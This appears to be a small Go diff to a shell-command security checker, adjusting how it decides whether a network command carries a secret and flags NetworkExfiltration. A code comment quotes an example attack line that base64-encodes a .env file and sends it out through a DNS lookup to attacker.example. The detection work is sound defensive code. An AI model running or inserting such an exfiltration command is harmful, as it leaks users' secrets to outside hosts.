@@ -753,7 +753,7 @@ func (c *checker) command(u unit) {
 		// "dig $(cat .env | base64).attacker.example": a network command
 		// whose words carry a secret.
 		for k, a := range cmd.Args {
-			if !a.Literal && (wordReadsSecret(a, u.dir, c.home) && !ownServiceToken(cmd, k) || urlCarriesSecret(a)) {
+			if !a.Literal && (wordReadsSecret(a, u.dir, c.home) && !ownServiceToken(cmd, k, c.lineAssigns()) || urlCarriesSecret(a)) {
 				c.add(NetworkExfiltration)
 			}
 		}
